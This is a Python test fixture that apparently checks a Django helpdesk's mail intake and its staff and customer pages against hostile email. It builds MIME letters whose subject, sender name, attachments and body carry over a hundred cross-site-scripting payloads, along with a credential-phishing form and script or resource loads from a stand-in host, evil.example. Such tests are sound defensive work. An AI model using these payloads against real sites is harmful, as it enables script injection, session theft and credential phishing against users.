"""Letters that try to act in their reader's name: one payload as subject, sender, file name, text and HTML at once.

`arrange` runs inside the installation, see `Installation.ask`.
"""

import time
from base64 import b64encode
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

PATIENCE_SECONDS = 30
EVIL = "//evil.example/x"
CALL = "alert(1)"
RUN = "top.pwned=1;alert(1)"
EVENTS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter", "onwheel",
    "onbeforeinput", "oncontentvisibilityautostatechange", "onscrollend", "onpageshow",
)  # fmt: skip
ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "marquee",
    "iframe",
)
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "\x01javascript:",
    "javascript&colon;", "data:text/html,", "vbscript:", "feed:javascript:",
)  # fmt: skip
MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}.js></SCRIPT>",
    f"<script/src={EVIL}.js>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}",
    f"<script\x0c>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{CALL}'><text x=9 y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<svg><title><style></title><img src=x onerror={CALL}>",
    f"<math><mi xlink:href='javascript:{CALL}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CALL}&gt;'>",
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<noembed><img title='</noembed><img src=x onerror={CALL}>'></noembed>",
    f"<xmp><img title='</xmp><img src=x onerror={CALL}>'></xmp>",
    f"<textarea><img title='</textarea><img src=x onerror={CALL}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={CALL}>'></title>",
    f"<select><style></select><img src=x onerror={CALL}></style>",
    f"<template><script>{RUN}</script></template>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--[if true]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version=1?><script>{RUN}</script>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<frameset onload={CALL}><frame src={EVIL}></frameset>",
    f"<object data='javascript:{CALL}'></object>",
    f"<object data={EVIL}.swf></object>",
    f"<embed src={EVIL}.swf>",
    f"<applet code={EVIL}></applet>",
    f"<link rel=stylesheet href={EVIL}.css>",
    f"<link rel=preload as=script href={EVIL}.js>",
    f"<link rel=prefetch href={EVIL}>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<link rel=icon href={EVIL}.ico>",
    f"<base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<style>@import '{EVIL}.css';</style>",
    f"<style>body{{background:url({EVIL}.png)}}</style>",
    "<style>*{animation:x 1s}@keyframes x{}</style>",
    f"<p style='background:url({EVIL}.png)'>x",
    f"<p style='width:expression({CALL})'>x",
    f"<p style='behavior:url({EVIL}.htc)'>x",
    "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>x",
    f"<div style=\"font-family:'x;background:url({EVIL})'\">x",
    f"<img src='{EVIL}.gif'>",
    f"<img src=x srcset='{EVIL}.gif 2x'>",
    f"<img lowsrc={EVIL}.gif dynsrc={EVIL}.gif>",
    f"<picture><source srcset={EVIL}.webp><img src={EVIL}.gif></picture>",
    f"<video poster={EVIL}.png><source src={EVIL}.mp4 onerror={CALL}></video>",
    f"<audio src={EVIL}.mp3 autoplay></audio>",
    f"<track src={EVIL}.vtt>",
    f"<input type=image src={EVIL}.png>",
    f"<table background={EVIL}.png><tr><td background={EVIL}.png>x",
    f"<body background={EVIL}.png>",
    f"<bgsound src={EVIL}.wav>",
    f"<isindex type=image src={EVIL}.png>",
    f"<form action={EVIL}><input name=password><button>Войти</button></form>",
    f"<form id=x></form><button form=x formaction='javascript:{CALL}'>x</button>",
    f"<a href={EVIL} ping={EVIL}>x</a>",
    "<a href='https://evil.example/' target=_top>x</a>",
    "<a id=documentElement name=cookie>x</a><form name=body></form>",
    f"<img name=currentScript src=x onerror={CALL}>",
    f"<keygen autofocus onfocus={CALL}>",
    f"<custom-element onclick={CALL} is=x>x</custom-element>",
    f"<p contenteditable onblur={CALL} autofocus tabindex=0>x",
    f"<p/onmouseover={CALL}//>x",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=\"x\"\"onerror={CALL}>",
    f"<img src=`x`onerror={CALL}>",
    f"<img src='x' 'onerror={CALL}'>",
    f"<img\nsrc=x\nonerror\n=\n{CALL}>",
    f"<<img src=x onerror={CALL}>",
    f"<img src=x onerror={CALL}//",
    f"\"><img src=x onerror={CALL}>",
    f"'><svg onload={CALL}>",
    f"\" autofocus onfocus={CALL} x=\"",
    f"' onmouseover='{CALL}",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</iframe><script>{RUN}</script>",
    f"\" srcdoc=\"<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&quot;&gt;&lt;img src=x onerror={CALL}&gt;",
    "{{ 7*7 }}{% include 'ui/base.html' %}{{ request }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\ufeff<script>{RUN}</script>",
    f"\u2028<img src=x onerror={CALL}>",
    f"<ſcript>{RUN}</ſcript>",
    f"＜script＞{RUN}＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    f"<table><td><select><script>{RUN}</script></select></table>",
    f"<b><p><a href='x'><b></p></a><script>{RUN}</script></b>",
)  # fmt: skip

LETTER = """From: =?utf-8?b?{name}?= <{sender}>
To: {to}
Subject: =?utf-8?b?{subject}?=
Message-ID: <hostile.{number}@evil.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=outer

--outer
Content-Type: multipart/alternative; boundary=inner

--inner
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{text}
--inner
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

{html}
--inner--
{files}--outer--
"""
FILE = """--outer
Content-Type: text/html; name*=utf-8''{name}
Content-Disposition: attachment; filename*=utf-8''{name}

<script>{run}</script>
"""
A_FILE_EACH = 5


def payloads() -> list[str]:
    """More than a hundred ways to run a script, to fetch, to move, or to mislead."""
    with_events = [f"<{element} {event}={RUN}>" for element in ELEMENTS for event in EVENTS[:: len(ELEMENTS) // 2]]
    with_schemes = [f"<a href='{scheme}{CALL}'>click</a><img src='{scheme}{CALL}'>" for scheme in SCHEMES]
    events = [f"<p {event}={RUN} tabindex=0 autofocus>x</p>" for event in EVENTS]
    return [*MARKUP, *with_schemes, *events, *with_events]


def letter(number: int, sender: str, to: str, heading: str, given: list[str]) -> bytes:
    """`heading` are the key lines of the letter; the first payload also is its subject and its sender's name."""
    first = given[0]
    body = "<hr>".join(given)
    files = "".join(FILE.format(name=quote(f"{name}.html"), run=RUN) for name in given)
    return LETTER.format(
        name=_encoded(first), sender=sender, to=to, subject=_encoded(first), number=number,
        text=_lines(f"{heading}\n{body}"), html=_lines(f"<p>{heading}</p>{body}"), files=files,
    ).replace("\n", "\r\n").encode()  # fmt: skip


def _encoded(text: str) -> str:
    return b64encode(text.replace("\n", " ").encode()).decode()


def _lines(text: str) -> str:
    return b64encode(text.encode()).decode()


def arrange() -> dict[str, Any]:
    """Everything arrives; the addresses at which staff and customer read it."""
    from django.urls import reverse
    from django.utils import timezone

    from reglament.intake import mailboxes, receiving
    from reglament.people.models import Account

    writer = Account.objects.get(login="ivanov.sm")
    support = mailboxes.support()
    assert support
    at = timezone.now()

    def bring(number: int, heading: str, given: list[str]) -> Any:
        raw = letter(number, writer.email, support.address, heading, given)
        return receiving.receive(raw, mailbox=support.address, at=at)

    every = payloads()
    rejected = [bring(number, "Приоритет: 1", [one]) for number, one in enumerate(every)]
    joined = [
        bring(
            1000 + number, f"Логин: {writer.login}\nПриоритет: 3\n\nНе работает.", every[number : number + A_FILE_EACH]
        )
        for number in range(0, len(every), A_FILE_EACH)
    ]
    for rows, verdict in ((rejected, "reject"), (joined, "case")):
        assert {row.verdict for row in _judged(rows)} == {verdict}
    return {
        "payloads": len(every),
        "journal": [reverse("desk:receipts"), f"{reverse('desk:receipts')}?verdict=reject", reverse("desk:queue")],
        "letters": [reverse("desk:receipt_shown", args=[row.pk]) for row in rejected],
        "triage": [reverse("desk:triage_receipt", args=[row.pk]) for row in rejected[:80:4]],
        "desk": list(_pages("desk:case", "desk:case_letter", joined)),
        "portal": list(_pages("portal:case", "portal:letter", joined)),
    }


def _judged(rows: list[Any]) -> list[Any]:
    """The clerk of the installation may have taken a letter out of our hands: then it is told a moment later."""
    deadline = time.monotonic() + PATIENCE_SECONDS
    for row in rows:
        while not row.verdict and time.monotonic() < deadline:
            time.sleep(0.1)
            row.refresh_from_db()
    return rows


def _pages(case: str, shown: str, rows: list[Any]) -> Iterator[str]:
    from django.urls import reverse

    for row in rows:
        yield reverse(case, args=[row.case.number])
        yield reverse(shown, args=[row.case.number, row.entry_id])
